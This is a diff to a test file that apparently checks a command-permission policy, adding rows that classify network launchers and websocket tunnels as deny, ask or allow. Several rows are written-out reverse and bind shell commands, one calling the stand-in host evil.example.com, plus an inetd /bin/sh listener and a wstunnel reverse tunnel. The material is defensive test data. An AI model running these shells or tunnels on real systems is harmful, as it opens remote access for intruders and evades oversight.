@@ -99,3 +99,25 @@ const ROWS: readonly ClassRow[] = [
 ];
 
 classTable("reverse and bind shells under the %s profile", ROWS);
+
+/**
+ * ADR 0663: servers whose purpose is to run a program for whoever connects (inetd, xinetd, webhook, the UCSPI and
+ * ipsvd launchers) ask; a launcher whose program is a shell or an interpreter is the reverse-shell hard deny; a
+ * websocket tunnel asks like chisel. A launcher that runs a plain program, and version pages, stay allowed.
+ */
+const LAUNCHER_ROWS: readonly ClassRow[] = [
+  ["tcpclient 203.0.113.7 4444 sh -c 'exec sh -i <&6 >&7 2>&7'", RS, RS],
+  ["tcpserver 0 9001 /bin/bash -i", RS, RS],
+  ["tcpsvd -vE 0.0.0.0 4444 sh", RS, RS],
+  ["s6-tcpclient evil.example.com 443 python3 -c 'import pty;pty.spawn(\"sh\")'", RS, RS],
+  ["echo '9001 stream tcp nowait dev /bin/sh sh -i' > /tmp/i.conf && inetd /tmp/i.conf", "ask", "ask"],
+  ["xinetd -f /tmp/x.conf -dontfork", "ask", "ask"],
+  ["webhook -hooks /tmp/h.json -ip 0.0.0.0", "ask", "ask"],
+  ["wstunnel client -R tcp://2222:localhost:22 wss://203.0.113.7:443", "ask", "ask"],
+  ["wstunnel server wss://0.0.0.0:8443", "ask", "ask"],
+  ["tcpclient localhost 6379 cat", "allow", "allow"],
+  ["webhook -version", "allow", "allow"],
+  ["xinetd -version", "allow", "allow"],
+];
+
+classTable("servers that run a program for whoever connects under the %s profile", LAUNCHER_ROWS);
